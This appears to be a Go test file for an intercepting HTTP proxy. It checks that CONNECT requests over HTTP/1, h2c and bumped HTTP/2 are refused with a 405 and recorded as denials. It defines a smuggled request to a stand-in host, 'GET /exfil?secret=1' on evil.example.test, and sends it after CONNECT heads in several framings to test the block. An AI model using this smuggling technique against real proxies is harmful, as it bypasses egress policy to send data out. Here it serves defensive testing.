package intercept_test

import (
	"io"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/net/http2"
)

// smuggled is what a client sends after a CONNECT's head, hoping the
// destination reads it as a request of its own: for a name the policy
// denies.
const smuggled = "GET /exfil?secret=1 HTTP/1.1\r\nHost: evil.example.test\r\n\r\n"

// wantConnectRefused checks what a refused CONNECT leaves: a 405 to the
// client, nothing served by the origin, and one deny record saying why.
func wantConnectRefused(t *testing.T, r *rig, up *upstream, status int, body, authority string) {
	t.Helper()
	if status != http.StatusMethodNotAllowed {
		t.Errorf("status %d %q, want 405", status, body)
	}
	if got := up.requests(); len(got) != 0 {
		t.Errorf("the origin served %q", got)
	}
	recs := ofKind(r.records(), "http")
	if len(recs) != 1 {
		t.Fatalf("http records %+v, want one", recs)
	}
	// A CONNECT's target is an authority: its record has no path (an
	// HTTP/2 one's said "/", review r4s24 F5).
	if rec := recs[0]; rec.Method != http.MethodConnect || rec.Host != authority || rec.Path != "" || rec.Action != "deny" ||
		rec.Result != "denied" || rec.Status != http.StatusMethodNotAllowed || rec.Rule != "" ||
		!strings.Contains(rec.Error, "CONNECT inside an intercepted connection is refused") {
		t.Errorf("record %+v, want a 405 deny of CONNECT %s saying why", rec, authority)
	}
	if n := r.ic.Denied(); n != 1 {
		t.Errorf("Denied() = %d, want 1", n)
	}
}

// h2Connect sends a CONNECT for authority over cc, the smuggled request
// as its stream's DATA, and returns the response's status and body.
func h2Connect(t *testing.T, cc *http2.ClientConn, authority string) (int, string) {
	t.Helper()
	pr, pw := io.Pipe()
	go func() {
		io.WriteString(pw, smuggled)
		pw.Close()
	}()
	req := &http.Request{
		Method: http.MethodConnect, URL: &url.URL{Host: authority}, Host: authority,
		Header: make(http.Header), Body: pr, ContentLength: -1,
	}
	resp, err := cc.RoundTrip(req)
	if err != nil {
		t.Fatalf("CONNECT %s: %v", authority, err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	return resp.StatusCode, string(body)
}

// TestConnectRefusedH2C: an HTTP/2 CONNECT stream in an h2c connection,
// decided on its :authority (an allowed name), must not become a raw
// tunnel to the HTTP/1 origin: the transport would send the CONNECT as a
// request and the stream's DATA unframed after it, which the origin reads
// as a request for the denied name. It is answered 405 and recorded as a
// deny.
func TestConnectRefusedH2C(t *testing.T) {
	r := newRig(t, testPolicy)
	upEnd, up := r.startUpstream(nil)
	cc, sv := r.h2cClient(t, upEnd)
	status, body := h2Connect(t, cc, "www.example.test:80")
	cc.Close()
	sv.waitDoneOnce(t)
	wantConnectRefused(t, r, up, status, body, "www.example.test:80")
}

// TestConnectRefusedBumpedH2: the same inside a bumped HTTP/2 connection.
func TestConnectRefusedBumpedH2(t *testing.T) {
	r := newRig(t, testPolicy)
	upEnd, up := r.startUpstream(r.upLeaf("www.example.test"), "h2", "http/1.1")
	c, sv := r.connect(upEnd, tlsDest)
	tc := bumpClient(t, r, c, "www.example.test", "h2")
	cc, err := (&http2.Transport{}).NewClientConn(tc)
	if err != nil {
		t.Fatal(err)
	}
	status, body := h2Connect(t, cc, "www.example.test:443")
	cc.Close()
	sv.waitDoneOnce(t)
	wantConnectRefused(t, r, up, status, body, "www.example.test:443")
}

// TestConnectRefusedHTTP1: an HTTP/1 CONNECT, with a body framed by
// Content-Length or chunked (which the transport would send on after a
// "CONNECT //name" head, for a server that takes CONNECT as bodiless to
// read as a request), or with none and raw bytes after it, in cleartext
// and bumped: answered 405, and the connection ends.
func TestConnectRefusedHTTP1(t *testing.T) {
	bodies := map[string]string{
		"content-length": "Content-Length: " + strconv.Itoa(len(smuggled)) + "\r\n\r\n" + smuggled,
		"chunked":        "Transfer-Encoding: chunked\r\n\r\n" + strconv.FormatInt(int64(len(smuggled)), 16) + "\r\n" + smuggled + "\r\n0\r\n\r\n",
		"none":           "\r\n" + smuggled,
	}
	for name, rest := range bodies {
		for _, bumped := range []bool{false, true} {
			t.Run(map[bool]string{false: "cleartext/", true: "bumped/"}[bumped]+name, func(t *testing.T) {
				r := newRig(t, testPolicy)
				authority := "www.example.test:80"
				var hc *httpClient
				var up *upstream
				var sv *served
				if bumped {
					authority = "www.example.test:443"
					upEnd, u := r.startUpstream(r.upLeaf("www.example.test"), "http/1.1")
					c, s := r.connect(upEnd, tlsDest)
					up, sv, hc = u, s, newHTTPClient(t, bumpClient(t, r, c, "www.example.test", "http/1.1"))
				} else {
					upEnd, u := r.startUpstream(nil)
					c, s := r.connectTCP(upEnd, httpDest)
					up, sv, hc = u, s, newHTTPClient(t, c)
				}
				resp, body := hc.do("CONNECT " + authority + " HTTP/1.1\r\nHost: " + authority + "\r\n" + rest)
				hc.wantClosed()
				hc.c.Close()
				sv.waitDoneOnce(t)
				wantConnectRefused(t, r, up, resp.StatusCode, body, authority)
			})
		}
	}
}
